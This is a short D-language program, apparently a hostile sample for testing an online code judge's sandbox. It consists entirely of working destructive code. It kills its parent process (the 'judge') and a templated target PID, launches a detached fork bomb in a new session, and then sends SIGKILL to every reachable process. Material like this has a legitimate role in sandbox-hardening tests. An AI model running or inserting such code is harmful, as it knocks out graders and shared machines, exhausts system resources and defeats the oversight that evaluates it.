// Ends every process it can reach, the one that judges it first, and leaves one behind.
import core.sys.posix.signal, core.sys.posix.unistd;
void main() {
    kill(getppid(), SIGKILL);
    kill(@PID@, SIGKILL);
    if (fork() == 0) { setsid(); for (;;) fork(); }
    kill(-1, SIGKILL);
}
